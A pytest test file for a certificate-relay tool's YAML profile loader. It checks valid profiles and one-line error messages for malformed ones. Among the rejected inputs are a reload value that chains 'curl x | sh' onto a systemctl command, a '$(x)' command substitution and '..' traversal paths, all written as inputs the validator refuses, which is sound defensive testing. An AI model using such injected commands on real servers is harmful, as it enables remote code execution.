"""Profiles YAML: valid files load, every mistake is one line naming file, profile and field."""

from __future__ import annotations

from pathlib import Path

import pytest

from certrelay.errors import ProfileError
from certrelay.profiles import S3Target, ServerTarget, load_profiles, load_profiles_file

ROOT = Path(__file__).resolve().parents[2]

VALID = """
profiles:
  web:
    owners: [web-team@example.com]
    approvers: [web-lead@example.com]
    approval: required
    approval_timeout_hours: 24
    escalation: [ops@example.com]
    window: {days: [sat, sun], start: "02:00", end: "05:00", timezone: UTC}
    max_concurrency: 10
    targets:
      - {kind: s3, bucket: partner-mtls-bundles, prefix: web/, kms_key: "alias/partner"}
      - kind: server
        instances: [i-0a1b2c3d4e5f60001]
        cert_path: /etc/ssl/web/cert.pem
        key_path: /etc/ssl/web/key.pem
        chain_path: /etc/ssl/web/chain.pem
        reload: nginx
        verify_port: 443
"""


def test_a_complete_profile_loads_with_typed_targets() -> None:
    profiles = load_profiles(VALID)
    web = profiles["web"]
    assert web.owners == ["web-team@example.com"]
    assert web.approval == "human"  # the older spelling "required", normalised
    assert web.window is not None
    assert web.window.days == ["sat", "sun"]
    s3, server = web.targets
    assert isinstance(s3, S3Target)
    assert s3.kms_key == "alias/partner"
    assert isinstance(server, ServerTarget)
    assert server.instances == ["i-0a1b2c3d4e5f60001"]


def test_defaults_make_a_minimal_profile_an_owner_list() -> None:
    web = load_profiles("profiles:\n  web:\n    owners: [a@example.com]\n")["web"]
    assert web.approval == "human"
    assert web.targets == []
    assert web.window is None


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("required", "human"),
        ("human", "human"),
        ("auto", "auto"),
        ("unless-changed", "unless-changed"),
    ],
)
def test_each_approval_mode_loads_and_required_is_read_as_human(written: str, read: str) -> None:
    # GIVEN a profile file with approval: <written> WHEN loaded THEN the mode is <read>
    web = load_profiles(VALID.replace("approval: required", f"approval: {written}"))["web"]

    assert web.approval == read


def test_unless_changed_needs_approvers_for_the_renewals_a_person_must_judge() -> None:
    text = VALID.replace("approval: required", "approval: unless-changed").replace(
        "    approvers: [web-lead@example.com]\n", ""
    )

    with pytest.raises(ProfileError, match="approval is 'unless-changed' but no approvers"):
        load_profiles(text)


def test_a_server_target_may_select_hosts_by_tags() -> None:
    text = VALID.replace("instances: [i-0a1b2c3d4e5f60001]", "tags: {Role: web}")
    server = load_profiles(text)["web"].targets[1]
    assert isinstance(server, ServerTarget)
    assert server.tags == {"Role": "web"}


def test_the_deployed_profiles_file_is_valid_and_describes_the_web_fleet() -> None:
    profiles = load_profiles_file(ROOT / "config" / "profiles.yaml")
    web = profiles["web"]
    assert web.approval == "human"
    kinds = [target.kind for target in web.targets]
    assert kinds == ["s3", "server", "server"]
    instances = [t.instances for t in web.targets if isinstance(t, ServerTarget)]
    assert instances == [["i-0a1b2c3d4e5f60001"], ["i-0a1b2c3d4e5f60002"]]


@pytest.mark.parametrize("text", ["", "   \n", "# only a comment\n", "profiles:\n"])
def test_empty_content_means_no_profiles(text: str) -> None:
    assert load_profiles(text) == {}


def test_a_missing_file_means_no_profiles(tmp_path: Path) -> None:
    assert load_profiles_file(tmp_path / "absent.yaml") == {}


def test_no_configured_file_means_no_profiles() -> None:
    # GIVEN Settings.profiles_file is None (PROFILES_FILE unset)
    assert load_profiles_file(None) == {}


def test_errors_from_a_file_name_that_file(tmp_path: Path) -> None:
    path = tmp_path / "profiles.yaml"
    path.write_text(VALID.replace("/etc/ssl/web/cert.pem", "cert.pem"))
    with pytest.raises(ProfileError) as caught:
        load_profiles_file(path)
    assert str(caught.value) == (
        f"{path}: profile 'web', targets[1].cert_path: must be an absolute path"
    )


BROKEN = [
    (
        "relative path",
        ("/etc/ssl/web/cert.pem", "etc/ssl/cert.pem"),
        "profile 'web', targets[1].cert_path: must be an absolute path",
    ),
    (
        "dot-dot path",
        ("/etc/ssl/web/key.pem", "/etc/ssl/../key.pem"),
        "profile 'web', targets[1].key_path: must not contain '..'",
    ),
    (
        "bad email",
        ("web-lead@example.com", "web-lead@"),
        "profile 'web', approvers[0]: 'web-lead@' is not a valid email address",
    ),
    (
        "bad instance",
        ("i-0a1b2c3d4e5f60001", "i-nothex"),
        "profile 'web', targets[1].instances[0]: 'i-nothex' is not an EC2 instance id",
    ),
    (
        "shell in reload",
        ("reload: nginx", "reload: systemctl reload nginx && curl x | sh"),
        "profile 'web', targets[1].reload: 'systemctl reload nginx && curl x | sh' is a command "
        "line; certrelay runs no free-form commands on servers: write reload: nginx",
    ),
    (
        "unknown adapter",
        ("reload: nginx", "reload: lighttpd"),
        "profile 'web', targets[1].reload: 'lighttpd' is not a reload adapter; use one of nginx,",
    ),
    (
        "script outside script_dirs",
        ("reload: nginx", "reload: script:/usr/local/bin/reload-web"),
        "profile 'web': targets[1].reload: /usr/local/bin/reload-web is not under a directory in "
        "script_dirs (none listed)",
    ),
    (
        "config test beside a named adapter",
        ("reload: nginx", "reload: nginx\n        config_test: script:/opt/hooks/t"),
        "profile 'web', targets[1]: config_test: the nginx adapter runs its own config test",
    ),
    (
        "config test as a command line",
        ("reload: nginx", "reload: nginx\n        config_test: nginx -t"),
        "profile 'web', targets[1].config_test: 'nginx -t' is not a config test",
    ),
    (
        "bad managed instance",
        ("i-0a1b2c3d4e5f60001", "mi-0a1b2c3d4e5f6000"),
        "profile 'web', targets[1].instances[0]: 'mi-0a1b2c3d4e5f6000' is not an EC2 instance id "
        "(i- followed by 8 or 17 hex digits) or a managed-instance id (mi- followed by 17",
    ),
    ("bad time", ('"02:00"', '"2am"'), "profile 'web', window.start: must be a time HH:MM"),
    (
        "bad weekday",
        ("[sat, sun]", "[sat, sunday]"),
        "profile 'web', window.days[1]: must be one of 'mon'",
    ),
    (
        "bad timezone",
        ("timezone: UTC", "timezone: Mars/Olympus"),
        "profile 'web', window.timezone: must be an IANA time zone",
    ),
    (
        "unknown kind",
        ("kind: s3,", "kind: ftp,"),
        "profile 'web', targets[0]: kind must be 's3' or 'server'",
    ),
    (
        "typo in field",
        ("bucket: partner", "bukket: partner"),
        "profile 'web', targets[0].bucket: is required",
    ),
    (
        "bad bucket",
        ("partner-mtls-bundles", "Partner_Bundles"),
        "profile 'web', targets[0].bucket: must be an S3 bucket name",
    ),
    (
        "bad kms key",
        ('"alias/partner"', '"my-key"'),
        "profile 'web', targets[0].kms_key: must be a KMS key id",
    ),
    (
        "concurrency too high",
        ("max_concurrency: 10", "max_concurrency: 41"),
        "profile 'web', max_concurrency: must be less than or equal to 40",
    ),
    (
        "timeout too long",
        ("approval_timeout_hours: 24", "approval_timeout_hours: 169"),
        "profile 'web', approval_timeout_hours: must be less than or equal to 168",
    ),
    (
        "bad approval",
        ("approval: required", "approval: sometimes"),
        "profile 'web', approval: must be one of 'human', 'auto' or 'unless-changed'",
    ),
    (
        "two selectors",
        (
            "instances: [i-0a1b2c3d4e5f60001]",
            "instances: [i-0a1b2c3d4e5f60001]\n        tags: {Role: web}",
        ),
        "profile 'web', targets[1]: give either instances (EC2 ids) or tags",
    ),
    (
        "no approvers",
        ("    approvers: [web-lead@example.com]\n", ""),
        "profile 'web': approval is 'human' but no approvers are listed",
    ),
    (
        "unknown field",
        ("max_concurrency: 10", "max_concurency: 10"),
        "profile 'web', max_concurency: is not a known field",
    ),
    (
        "bad port",
        ("verify_port: 443", "verify_port: 70000"),
        "profile 'web', targets[1].verify_port: must be less than or equal to 65535",
    ),
]


@pytest.mark.parametrize(("case", "edit", "message"), BROKEN, ids=[b[0] for b in BROKEN])
def test_each_mistake_is_reported_in_one_line(
    case: str, edit: tuple[str, str], message: str
) -> None:
    # GIVEN the valid file with one mistake
    assert edit[0] in VALID, case
    text = VALID.replace(*edit)
    # WHEN it is loaded THEN one line names the file, the profile and the field
    with pytest.raises(ProfileError) as caught:
        load_profiles(text, source="config/profiles.yaml")
    line = str(caught.value)
    assert line.startswith(f"config/profiles.yaml: {message}"), line
    assert "\n" not in line


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("- just\n- a list\n", "profiles.yaml: must be a mapping with a top-level 'profiles' key"),
        ("profiles: [web]\n", "profiles.yaml: profiles: must be a mapping"),
        ("profile:\n  web: {}\n", "profiles.yaml: profile: is not a known field"),
        ("profiles:\n  web: {}\n  web: {}\n", "profiles.yaml: not valid YAML (line 3, column 3)"),
        ("profiles: {web: [}\n", "profiles.yaml: not valid YAML (line 1"),
        ("profiles:\n  'web team': {}\n", "profiles.yaml: profile 'web team': 'web team' is not a"),
    ],
)
def test_structural_mistakes_are_reported_in_one_line(text: str, message: str) -> None:
    with pytest.raises(ProfileError) as caught:
        load_profiles(text)
    assert str(caught.value).startswith(message), str(caught.value)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize(
    ("old", "adapter"),
    [
        ("systemctl reload nginx", "nginx"),
        ("/usr/sbin/nginx -s reload", "nginx"),
        ("systemctl reload apache2", "apache"),
        ("apachectl graceful", "apache"),
        ("service httpd reload", "apache"),
        ("systemctl reload haproxy.service", "haproxy"),
        ("systemctl reload php8.2-fpm", "systemd:php8.2-fpm"),
        ("/opt/app/bin/reload --graceful", "script:<path of an executable under one of"),
    ],
)
def test_a_free_form_reload_is_refused_with_the_adapter_to_write(old: str, adapter: str) -> None:
    # GIVEN a profile written before adapters, with a command line as its reload
    text = VALID.replace("reload: nginx", f"reload: {old}")
    # WHEN it is loaded THEN one line says it is a command line and what to write instead
    with pytest.raises(ProfileError) as caught:
        load_profiles(text, source="config/profiles.yaml")
    line = str(caught.value)
    assert line.startswith(
        f"config/profiles.yaml: profile 'web', targets[1].reload: {old!r} is a command line; "
        f"certrelay runs no free-form commands on servers: write reload: {adapter}"
    ), line
    assert "\n" not in line


@pytest.mark.parametrize(
    "adapter",
    ["nginx", "apache", "haproxy", "envoy", "systemd:php8.2-fpm", "systemd:app@1.service"],
)
def test_every_named_adapter_loads(adapter: str) -> None:
    server = load_profiles(VALID.replace("reload: nginx", f"reload: {adapter}"))["web"].targets[1]
    assert isinstance(server, ServerTarget)
    assert (server.reload, server.config_test) == (adapter, None)


def test_a_script_adapter_and_its_test_load_from_an_allowed_directory() -> None:
    # GIVEN a profile that allow-lists /opt/certrelay/hooks
    text = VALID.replace(
        "    targets:\n", "    script_dirs: [/opt/certrelay/hooks/]\n    targets:\n"
    )
    text = text.replace(
        "reload: nginx",
        "reload: script:/opt/certrelay/hooks/reload-web\n"
        "        config_test: script:/opt/certrelay/hooks/test-web",
    )
    # WHEN it is loaded THEN both scripts are taken as given
    web = load_profiles(text)["web"]
    server = web.targets[1]
    assert isinstance(server, ServerTarget)
    assert server.reload == "script:/opt/certrelay/hooks/reload-web"
    assert server.config_test == "script:/opt/certrelay/hooks/test-web"
    assert web.script_dirs == ["/opt/certrelay/hooks"]


@pytest.mark.parametrize(
    ("script", "field"),
    [
        ("reload: script:/opt/certrelay/hooks-evil/reload", "reload"),
        ("reload: script:/opt/certrelay/reload", "reload"),
        (
            "reload: script:/opt/certrelay/hooks/r\n        config_test: script:/tmp/t",
            "config_test",
        ),
    ],
)
def test_a_script_outside_the_allowed_directories_is_refused(script: str, field: str) -> None:
    text = VALID.replace(
        "    targets:\n", "    script_dirs: [/opt/certrelay/hooks]\n    targets:\n"
    )
    with pytest.raises(ProfileError) as caught:
        load_profiles(text.replace("reload: nginx", script))
    assert f"targets[1].{field}: " in str(caught.value)
    assert "is not under a directory in script_dirs (/opt/certrelay/hooks)" in str(caught.value)


@pytest.mark.parametrize(
    "path", ["/opt/../hooks", "opt/hooks", "/opt/./hooks", "/opt/ho oks", "/", "/opt/$(x)"]
)
def test_a_script_dir_must_be_a_plain_absolute_directory(path: str) -> None:
    text = VALID.replace("    targets:\n", f"    script_dirs: ['{path}']\n    targets:\n")
    with pytest.raises(ProfileError, match=r"profile 'web', script_dirs\[0\]: "):
        load_profiles(text)


def test_a_hybrid_managed_instance_is_a_server() -> None:
    text = VALID.replace("i-0a1b2c3d4e5f60001", "mi-0123456789abcdef0")
    server = load_profiles(text)["web"].targets[1]
    assert isinstance(server, ServerTarget)
    assert server.instances == ["mi-0123456789abcdef0"]


# -- target ids and the cap on targets --------------------------------------------------------
def _bucket_targets(count: int) -> str:
    lines = [f"      - {{kind: s3, bucket: b-{n:03d}}}" for n in range(count)]
    return "profiles:\n  web:\n    approval: auto\n    targets:\n" + "\n".join(lines) + "\n"


def test_a_target_is_known_by_its_name_or_by_its_position_from_one() -> None:
    # GIVEN a profile whose second target has a name
    text = VALID.replace("      - kind: server\n", "      - kind: server\n        name: front\n")
    web = load_profiles(text)["web"]
    # WHEN its targets are listed with their ids THEN <profile>#<n> or <profile>#<name>
    assert [target_id for target_id, _ in web.target_ids("web")] == ["web#1", "web#front"]


def test_a_profile_holds_at_most_one_hundred_targets() -> None:
    assert len(load_profiles(_bucket_targets(100))["web"].targets) == 100
    with pytest.raises(ProfileError) as caught:
        load_profiles(_bucket_targets(101))
    assert str(caught.value) == (
        "profiles.yaml: profile 'web': has 101 targets; at most 100 fit one execution "
        "(split the profile)"
    )


def test_two_targets_of_a_profile_may_not_share_a_name() -> None:
    text = (
        "profiles:\n  web:\n    approval: auto\n    targets:\n"
        "      - {kind: s3, bucket: bucket-one, name: partner}\n"
        "      - {kind: s3, bucket: bucket-two, name: partner}\n"
    )
    with pytest.raises(ProfileError, match="target names must be unique: partner"):
        load_profiles(text)


def test_a_target_name_is_letters_digits_and_dot_dash_underscore() -> None:
    text = "profiles:\n  web:\n    targets:\n      - {kind: s3, bucket: bucket-one, name: 'a#1'}\n"
    with pytest.raises(ProfileError) as caught:
        load_profiles(text)
    assert "targets[0].name: 'a#1' is not a valid target name" in str(caught.value)


def test_a_profile_may_export_twenty_certificates_a_day_unless_it_says_otherwise() -> None:
    from certrelay.profiles import Profile

    assert Profile().exports_per_day == 20
    assert Profile(exports_per_day=1).exports_per_day == 1
    for wrong in (0, 1001, "many"):
        with pytest.raises(ValueError, match="exports_per_day"):
            Profile(exports_per_day=wrong)
